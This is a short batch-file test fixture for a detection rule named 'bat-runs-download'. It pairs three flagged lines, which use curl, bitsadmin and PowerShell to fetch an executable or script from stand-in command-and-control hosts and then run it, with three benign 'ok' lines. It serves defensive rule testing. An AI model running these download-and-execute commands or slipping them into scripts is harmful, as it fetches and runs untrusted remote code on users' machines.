rem ruleid: bat-runs-download
curl http://203.0.113.9/a.exe -o a.exe && start /b a.exe
rem ruleid: bat-runs-download
bitsadmin /transfer j https://c2.invalid/x %TEMP%\a.exe
%TEMP%\a.exe
rem ruleid: bat-runs-download
powershell -c "iwr https://c2.invalid/x -OutFile %TEMP%\u.ps1"
call %TEMP%\u.ps1
rem ok: bat-runs-download
curl -L -o a.zip https://get.invalid/a.zip
rem ok: bat-runs-download
call build.bat
rem ok: bat-runs-download
powershell -File build.ps1
